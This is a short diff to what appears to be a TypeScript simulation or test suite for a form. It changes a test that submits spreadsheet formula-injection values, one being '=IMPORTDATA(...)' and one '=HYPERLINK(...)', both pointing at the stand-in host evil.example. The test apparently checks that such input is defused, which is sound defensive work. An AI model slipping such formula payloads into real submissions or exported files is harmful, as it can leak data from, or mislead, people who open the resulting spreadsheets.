@@ -73,7 +73,10 @@ export const answerEditedAfterRejection: Simulation = (bundle) =>
 /** Answers that would become formulas if they were typed. */
 export const formulasSubmitted: Simulation = (bundle) =>
   runScenario({ bundle }, (world) => {
-    world.submit({ email: '=1+1', firstName: '=HYPERLINK("https://evil.example")' });
+    world.submit({
+      email: '=IMPORTDATA("https://evil.example")',
+      firstName: '=HYPERLINK("https://evil.example")',
+    });
   });
 
 /** Domains that look like an allowed one. */
